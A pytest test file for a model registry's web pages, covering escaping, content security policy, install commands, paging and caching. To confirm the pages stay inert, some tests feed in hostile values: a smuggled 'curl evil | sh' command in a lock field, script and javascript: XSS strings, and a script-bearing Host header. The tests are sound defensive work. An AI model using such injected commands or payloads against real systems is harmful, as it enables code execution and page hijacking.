"""What stands on the pages, and that other people's text can do nothing there."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from support import stock
from support.pages import Page
from support.shelf import fresh_root, put

from cogen_registry.app import create_app
from cogen_registry.pages.composite import lock_file
from cogen_registry.service import Service
from cogen_registry.settings import Settings

BROWSER = {"accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
PATHS = (
    "/",
    "/experts",
    "/experts?q=grid",
    "/experts?q=nothing-is-called-so",
    "/experts?domain=testing&size=%3E8B",
    "/experts/clinical",
    "/experts/power/0.9",
    "/experts/old",
    "/experts/apart",
    "/experts/hostile",
    "/compare",
    "/compare?id=clinical&id=hostile&id=nobody",
    "/publishers/hospital",
    "/publishers/mallory",
    "/composites",
    "/composites/gridworks/both",
    "/composites/gridworks/both/1",
)


def page_of(client: TestClient, path: str) -> Page:
    answer = client.get(path, headers=BROWSER)
    assert answer.status_code == 200, answer.text
    return Page(answer.text)


def text_of(client: TestClient, path: str) -> str:
    return " ".join(" ".join(page_of(client, path).text).split())


@pytest.mark.parametrize("path", PATHS)
def test_every_page_is_well_formed_and_loads_nothing_from_elsewhere(client: TestClient, path: str) -> None:
    """One script and one style sheet, both ours; no attribute that runs; links are ours, or plain ones to the web."""
    page = page_of(client, path)
    assert len(set(page.ids)) == len(page.ids)
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("style", "srcdoc", "formaction", "ping"), (tag, name)
        if name in ("src", "action") or (tag == "link" and name == "href"):
            assert value.startswith("/"), value
            assert not value.startswith("//"), value
        if (tag, name) == ("a", "href"):
            assert value.startswith(("/", "#", "https://", "http://")), value
            assert not value.startswith("//"), value
    assert (
        sum(tag == "script" and name == "src" for tag, name, _ in page.attributes) == page.source.count("<script") == 1
    )
    assert not page.tags & {"iframe", "object", "embed", "base", "style", "img", "b" if "hostile" in path else "base"}


def test_pages_say_that_nothing_else_may_run(client: TestClient) -> None:
    answer = client.get("/experts/hostile")
    policy = dict(one.strip().split(" ", 1) for one in answer.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == "'self'"
    assert policy["frame-ancestors"] == policy["base-uri"] == "'none'"
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_hostile_text_is_text(client: TestClient) -> None:
    """Titles, summaries, domains, addresses and cards of others: shown as they are, and inert."""
    page = page_of(client, "/experts/hostile")
    output = " ".join(page.text)
    assert stock.HOSTILE["title"] in output
    assert stock.HOSTILE["summary"] in output
    assert "javascript:alert(3)" in output
    assert not [link for link in page.links if "evil" in link and not link.startswith("/experts?domain=")]
    assert "<script>alert(9)</script>" in " ".join(page_of(client, "/composites/gridworks/both").text)
    assert "trained on <the> wrong split" in text_of(client, "/experts/old")


def test_a_lock_can_put_nothing_into_commands(tmp_path: Path) -> None:
    """Who copies a command copies names and versions, whatever a lock calls them."""
    with TestClient(create_app(Settings(root=fresh_root(tmp_path / "root"), embedder="none"))) as client:
        service: Service = client.app.state.service  # type: ignore[attr-defined]
        put(service, "power")
        made = stock.lock(service, "power")
        made["plan"]["experts"][0]["distribution"] = "x; curl evil | sh #"
        from cogen.spec.expert import canonical_digest
        from cogen_registry.experts import composites, models

        made["plan_digest"] = canonical_digest(made["plan"])
        new = models.NewComposite(name="bad", title="Bad", lock=made)
        composites.add(service, stock.principal(service, "team"), new)
        assert "cogen add xcurlevilsh==1.0" in text_of(client, "/composites/team/bad")


def test_an_experts_page_has_its_whole_data_card(client: TestClient) -> None:
    """Every value of the data card and of the model stands on the page."""
    detail = client.get("/api/v1/experts/clinical").json()
    output = text_of(client, "/experts/clinical")

    def leaves(value: object) -> list[str]:
        if isinstance(value, dict):
            return [leaf for one in value.values() for leaf in leaves(one)]
        if isinstance(value, list):
            return [leaf for one in value for leaf in leaves(one)]
        return [str(value)] if isinstance(value, str) else [f"{value:,}"] if type(value) is int else []

    card, model = detail["spec"]["data"], detail["spec"]["model"]
    size = card["sources"][0].pop("bytes")
    assert f"{size / 1000:g} kB" in output
    for leaf in leaves(card) + leaves({k: v for k, v in model.items() if k not in ("relation", "trust_remote_code")}):
        assert leaf in output, leaf
    for value in (
        detail["file"]["sha256"],
        detail["spec_digest"],
        "adapter on feed-forward layers",
        "may be published",
    ):
        assert value in output
    assert (
        f"/files/{detail['file']['sha256']}/{detail['file']['filename']}" in page_of(client, "/experts/clinical").links
    )


def test_claims_stand_beside_measurements(client: TestClient) -> None:
    output = text_of(client, "/experts/clinical")
    assert "claimed by hospital 1.0000" in output
    assert "measured by hospital the publisher itself 1.0000 0.9500 – 1.0500 agrees with the claim" in output
    assert "measured by gridworks 1.0200 0.9700 – 1.0700 agrees with the claim +0.0200 (+2.0%)" in output
    assert "measured by critic 1.3000 1.2500 – 1.3500 worse than claimed +0.3000 (+30.0%)" in output
    assert "measured by critic 1.4000 — no interval was given +0.4000 (+40.0%)" in output
    assert "claims nothing" in text_of(client, "/experts/power")


def test_the_way_to_install_fits_the_expert(client: TestClient) -> None:
    """Commands name this service, this version where it is not the current one, and weights where they lie."""
    output = text_of(client, "/experts/clinical")
    assert "cogen add clinical Checks" in output
    assert "pip install --no-deps --index-url https://r.example/simple/ cogen-plugin-clinical==1.0" in output
    assert "Its weights are in the wheel." in output
    assert "HF_ENDPOINT" not in output
    output = text_of(client, "/experts/apart")
    assert "HF_ENDPOINT=https://r.example python" in output
    assert "from_pretrained('hospital/weights', revision='" in output
    assert "Its weights lie in this registry" in output
    output = text_of(client, "/experts/power/0.9")
    assert "cogen add power==0.9" in output
    assert "This is not the current version: power 1.0 is." in output


def test_lineage_links_base_experts_and_composites(client: TestClient) -> None:
    page = page_of(client, "/experts/clinical")
    lineage = page.source.partition('class="chart"')[2].partition("</svg>")[0]
    assert "A base" in lineage
    assert 'href="/composites/gridworks/both"' in lineage
    assert lineage.count('class="node expert"') == 5
    # power, hostile, apart and 25 made-up ones are its siblings; what is yanked or quarantined is none
    assert "and 23 more" in lineage
    assert "/experts?base=sha256" in lineage


def test_what_is_yanked_says_so_and_what_is_quarantined_is_not_there(client: TestClient) -> None:
    assert "This version was yanked. Its publisher says: trained on <the> wrong split" in text_of(
        client, "/experts/old"
    )
    for path in ("/experts/secret", "/experts/secret/1.0"):
        assert client.get(path, headers=BROWSER).status_code == 404
    for path in PATHS:
        assert "Quarantined title" not in client.get(path, headers=BROWSER).text, path
    assert "/experts/old" not in page_of(client, "/experts?q=old").links


def test_a_publishers_page_has_keys_and_experts(client: TestClient) -> None:
    page = page_of(client, "/publishers/hospital")
    assert "sha256:" + "ab" * 32 in page.ids
    assert "PEM OF THE KEY" in " ".join(page.text)
    assert {"/experts/clinical", "/experts/apart"} <= set(page.links)
    assert "/composites/gridworks/both" in page_of(client, "/publishers/gridworks").links


def test_a_composite_names_publisher_and_key_of_every_expert(client: TestClient, service: Service) -> None:
    output = text_of(client, "/composites/gridworks/both")
    assert "hospital https://models.example.org claimed sha256:" + "ab" * 32 in output
    assert "The tests claimed" in output
    assert "Base 1.0000 0.9800 – 1.0200 30 documents" in output
    assert "Composite 0.9000 +10.0 % 0.8800 – 0.9200 30 documents" in output
    assert "cogen fuse --lock cogen.lock -o both" in output
    assert {"/experts/clinical/1.0", "/experts/power/1.0"} <= set(page_of(client, "/composites/gridworks/both").links)
    answer = client.get("/composites/gridworks/both/1/cogen.lock")
    assert answer.content == lock_file(stock.lock(service, "clinical", "power"))
    assert json.loads(answer.content)["plan"]["strategy"] == "merge"
    assert answer.headers["content-disposition"].startswith("attachment")


def test_experts_side_by_side(client: TestClient) -> None:
    page = page_of(client, "/compare?id=clinical&id=power&id=clinical&id=nobody")
    output = " ".join(" ".join(page.text).split())
    assert "There is no expert “ nobody ” here." in output
    assert "Can be merged with the first — yes, same base" in output
    assert "worse than claimed" in output
    assert "/compare?id=power" in page.links
    assert client.get("/compare?id=a&id=b&id=c&id=d&id=e", headers=BROWSER).status_code == 400


def test_the_list_is_filtered_counted_and_paged(client: TestClient) -> None:
    """Every expert is on exactly one page; links keep the filters."""
    seen: list[str] = []
    for number in (1, 2):
        page = page_of(client, f"/experts?page={number}&domain=&sort=name")
        seen += [link for link in page.links if link.count("/") == 2 and link.startswith("/experts/")]
    assert len(seen) == len(set(seen)) == 29
    assert "29 experts , 1 to 20 are shown" in text_of(client, "/experts")
    assert "8 experts ." in text_of(client, "/experts?domain=topic+1")
    assert "1 expert for “ grid ”" in text_of(client, "/experts?q=grid")
    page = page_of(client, "/experts?language=en&sort=largest")
    assert "/experts?language=en&sort=largest&page=2" in page.links
    assert page.links.index("/experts/many-24") < page.links.index("/experts/many-10")
    assert ("option", "selected", "") in page.attributes


@pytest.mark.parametrize(
    "path",
    [
        "/experts?page=99",
        "/experts?page=0",
        "/experts?page=x",
        "/experts?size=huge",
        "/experts?sort=luck",
        "/experts?q=" + "x" * 1001,
        "/experts?q=%00",
        "/experts/nobody",
        "/experts/clinical/9",
        "/experts/clinical/x",
        "/publishers/nobody",
        "/composites/gridworks/none",
        "/composites/gridworks/both/x",
        "/composites?page=7",
        "/static/pages.css",
        "/nowhere",
        "/nowhere/at/all",
    ],
)
def test_what_is_not_there_is_a_page_for_people_and_json_for_others(client: TestClient, path: str) -> None:
    shown = client.get(path, headers=BROWSER)
    assert shown.status_code in (400, 404)
    page = Page(shown.text)
    assert page.tags >= {"h1", "main"}
    assert "content-security-policy" in shown.headers
    reported = client.get(path)
    assert reported.status_code == shown.status_code
    assert "\n" not in reported.json()["error"]
    assert reported.json()["error"][1:] in " ".join(page.text)


def test_protocols_get_json_also_from_a_browser(client: TestClient) -> None:
    for path in ("/api/v1/experts/nobody", "/files/00/x.whl"):
        assert client.get(path, headers=BROWSER).headers["content-type"] == "application/json"


def test_a_page_that_did_not_change_is_not_sent_again(client: TestClient, service: Service) -> None:
    """Same state, same bytes; what changes is seen at once."""
    first = client.get("/experts/power")
    assert first.headers["cache-control"] == "no-cache"
    again = client.get("/experts/power", headers={"if-none-match": f'"other", W/{first.headers["etag"]}'})
    assert (again.status_code, again.content) == (304, b"")
    head = client.head("/experts/power")
    assert (head.status_code, head.headers["etag"], head.content) == (200, first.headers["etag"], b"")
    service.changed()
    assert client.get("/experts/power").content == first.content


def test_a_change_is_seen_at_once(tmp_path: Path) -> None:
    with TestClient(create_app(Settings(root=fresh_root(tmp_path / "root"), embedder="none"))) as client:
        service: Service = client.app.state.service  # type: ignore[attr-defined]
        assert "Nothing was published here yet" in client.get("/").text
        assert "by meaning" not in client.get("/").text  # there is no model for it
        put(service, "power", title="First title")
        assert "First title" in client.get("/").text
        assert "First title" in client.get("/experts/power").text
        put(service, "power", "2.0", title="Second title")
        assert "Second title" in client.get("/experts/power").text
        assert "First title" in client.get("/experts/power/1.0").text


def test_behind_a_proxy_links_keep_its_prefix(tmp_path: Path) -> None:
    settings = Settings(root=fresh_root(tmp_path / "root"), embedder="none", url="https://h.example/models")
    with TestClient(create_app(settings)) as client:
        put(client.app.state.service, "power")  # type: ignore[attr-defined]
        page = page_of(client, "/experts/power")
        assert {link for link in page.links if not link.startswith(("#", "/models/"))} == set()
        assert "--index-url https://h.example/models/simple/" in " ".join(page.text)


def test_without_a_url_pages_name_the_host_that_was_asked(tmp_path: Path) -> None:
    """A page that was made for one name is never sent to who asks for another."""
    with TestClient(create_app(Settings(root=fresh_root(tmp_path / "root"), embedder="none"))) as client:
        put(client.app.state.service, "power")  # type: ignore[attr-defined]
        for host in ("one.example", "two.example", 'x"><script>alert(1)</script>'):
            text = client.get("/experts/power", headers={"host": host}).text
            assert text.count("<script") == 1
            assert ("one.example" in text) is (host == "one.example")


def test_static_files_never_change_under_one_name(client: TestClient) -> None:
    page = page_of(client, "/")
    names = [value for tag, name, value in page.attributes if value.startswith("/static/")]
    assert sorted(name.rpartition(".")[2] for name in names) == ["css", "js", "svg"]
    for name in names:
        answer = client.get(name)
        assert answer.status_code == 200
        assert "immutable" in answer.headers["cache-control"]
